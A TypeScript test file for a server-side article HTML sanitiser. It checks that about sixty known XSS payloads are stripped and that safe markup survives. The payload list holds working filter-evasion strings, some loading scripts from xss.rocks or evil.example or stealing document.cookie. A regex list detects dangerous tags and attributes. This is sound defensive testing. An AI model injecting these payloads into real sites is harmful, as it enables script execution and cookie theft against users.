import { describe, expect, it } from 'vitest';
import { sanitiseArticleHtml } from './article-html.ts';

// Known XSS payloads (OWASP's filter-evasion list, PortSwigger's cheat sheet): after sanitising,
// nothing can run and nothing loads from outside.
const payloads = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(&quot;XSS&quot;)>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<SCRIPT SRC=//xss.rocks/.j>',
  '<IMG SRC="`<javascript:alert>`(\'XSS\')"',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<LINK REL="stylesheet" HREF="http://xss.rocks/xss.css">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="background:url(https://evil.example/x.png)">styled</p>',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="https://ok.example" onclick="alert(1)">click</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src=x onerror=alert(1)>',
  '<base href="javascript:alert(1)//">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/png;base64,iVBORw0KGgo=">',
  '<img src="/api/v1/article-files/12/../../../users">',
  '<img srcset="https://evil.example/a.png 1x" src="/api/v1/article-files/3">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '"><script>alert(document.cookie)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
];

const dangerous = [
  /<script/i,
  /<style/i,
  /<iframe/i,
  /<object/i,
  /<embed/i,
  /<svg/i,
  /<math/i,
  /<link/i,
  /<meta/i,
  /<base/i,
  /<form/i,
  /<input/i,
  /\son[a-z]+\s*=/i,
  /javascript:/i,
  /vbscript:/i,
  /data:/i,
  /style=/i,
  /srcset/i,
  /background=/i,
  /src="(?!\/api\/v1\/article-files\/\d+")/i,
  /href="(?!https?:\/\/|mailto:)/i,
];

describe('article HTML is sanitised on the server', () => {
  it.each(payloads)('strips %s', (payload) => {
    const { html } = sanitiseArticleHtml(`<p>前文</p>${payload}<p>后文</p>`);
    for (const pattern of dangerous) expect(html, `${pattern} in ${html}`).not.toMatch(pattern);
    expect(html).toContain('<p>前文</p>');
  });

  it.each([
    ['<p>货源<strong>投放</strong>说明</p>', '<p>货源<strong>投放</strong>说明</p>'],
    ['<h2>标题</h2><ul><li>一</li></ul>', '<h2>标题</h2><ul><li>一</li></ul>'],
    [
      '<p><a href="https://www.tobacco.gov.cn/x">政策原文</a></p>',
      '<p><a href="https://www.tobacco.gov.cn/x" rel="noopener noreferrer" target="_blank">政策原文</a></p>',
    ],
    [
      '<p><img src="/api/v1/article-files/7" alt="真烟"></p>',
      '<p><img src="/api/v1/article-files/7" alt="真烟" /></p>',
    ],
    ['<p class="x" id="y" data-a="1">字</p>', '<p>字</p>'],
    ['<div><span>包装</span></div>', '包装'],
  ])('keeps what is safe: %s', (input, expected) => {
    expect(sanitiseArticleHtml(input).html).toBe(expected);
  });

  it('lists the stored images the body shows and gives its plain text', () => {
    const result = sanitiseArticleHtml(
      '<p>看<img src="/api/v1/article-files/4">与<img src="/api/v1/article-files/9"><img src="/api/v1/article-files/4"></p><p>A &amp; B</p>',
    );
    expect(result.imageFileIds).toEqual([4, 9]);
    expect(result.text).toBe('看与 A & B');
  });
});
